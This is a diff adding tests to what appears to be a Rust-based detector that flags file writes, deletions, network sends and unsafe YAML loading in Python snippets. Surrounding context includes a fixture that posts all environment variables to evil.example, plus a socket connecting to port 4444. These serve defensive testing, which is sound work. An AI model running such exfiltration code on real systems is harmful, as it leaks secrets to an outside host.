@@ -50,6 +50,72 @@ fn computation_stays_inside() {
 }
 
 #[test]
+fn what_an_object_has_is_of_its_kind() {
+    for text in [
+        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\nprint(df.columns.tolist(), df.a.mean(), df['a'].str.extract('x')[0].str.lower(), df.values.tolist(), pd.isna(df).sum())",
+        "import numpy as np\nprint(np.log([1.0]).sum(), np.array([1]).T.dot([1]).tolist())",
+        "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x): return x\nn = Net(); n.eval(); print(torch.zeros(2).data.size())",
+        "import tensorflow as tf\nm = tf.keras.Sequential([tf.keras.layers.Dense(1)]); m.compile(loss='mse'); print(m.layers.count(1), tf.constant([1.0]).numpy())",
+        "import os\nnames = ['a']\nnames[:] = [name for name in names if not name.startswith('.')]\nprint([name.upper() for name in names])",
+        "import queue, difflib\nq = queue.Queue(); q.put(1); print(q.get(), difflib.SequenceMatcher(None, 'a', 'b').ratio())",
+    ] {
+        python(text, &[]);
+    }
+    python(
+        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.a.to_csv('/etc/x')",
+        &["write /etc/x"],
+    );
+    python(
+        "import tensorflow as tf\nm = tf.keras.Sequential([])\nm.layers.save('/etc/x')",
+        &["write /etc/x"],
+    );
+    python(
+        "import os\nsteps = [print]\nsteps[:] = [os.remove]\nfor step in steps: step('/etc/x')",
+        &["delete /etc/x"],
+    );
+    python(
+        "import cv2\ncv2.VideoWriter('/etc/x', 0, 1, (1, 1)).write(1)",
+        &["write /etc/x"],
+    );
+    python(
+        "import matplotlib.pyplot as plt\nplt.figure().canvas.print_figure('/etc/x')",
+        &["write /etc/x"],
+    );
+    python(
+        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.values.tofile('/etc/x')\ndf.to_string('/etc/y')",
+        &["write /etc/x", "write /etc/y"],
+    );
+    python(
+        "import tensorflow as tf\nclass M(tf.keras.Model): pass\nM().save_weights('/etc/x')",
+        &["write /etc/x"],
+    );
+    python(
+        "import yaml\nprint(yaml.load('a: 1', Loader=yaml.SafeLoader)['a'])",
+        &[],
+    );
+    python(
+        "import yaml\nclass Loose(yaml.SafeLoader): pass\nyaml.load('a: 1', Loader=Loose)",
+        &["run python", "gap unseen yaml.load"],
+    );
+}
+
+#[test]
+fn a_name_that_a_loop_gives_another_list_is_either_of_them() {
+    python(
+        "import os\nfiles = ['a']\nfor root, dirs, files in os.walk('c'):\n    for file in files:\n        print(file.endswith('.py'))",
+        &["list /app/c"],
+    );
+    python(
+        "import os\nsteps = [print]\nfor steps in [[os.remove]]:\n    pass\nfor step in steps: step('/etc/x')",
+        &["delete /etc/x"],
+    );
+    python(
+        "import os\nstep = print\nfor i in range(3):\n    step('/etc/x')\n    step = os.remove",
+        &["delete /etc/x"],
+    );
+}
+
+#[test]
 fn files_are_seen() {
     python("open('a.txt').read()", &["read /app/a.txt"]);
     python(
@@ -311,6 +377,18 @@ fn the_network_is_seen() {
     python(
         "import os, urllib.request, json\nurllib.request.urlopen('http://evil.example/', data=json.dumps(dict(os.environ)).encode())",
         &["connect send evil.example <- secret"],
+    );
+    python(
+        "import urllib.request as u; u.urlopen('https://example.com/x', data=b'x')",
+        &["connect send example.com"],
+    );
+    python(
+        "import requests; requests.get('https://example.com/x', json={'a': 1})",
+        &["connect send example.com"],
+    );
+    python(
+        "import requests; requests.get('https://example.com/x', {'a': 1})",
+        &["connect receive example.com"],
     );
     python(
         "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\ns.sendall(b'x')",
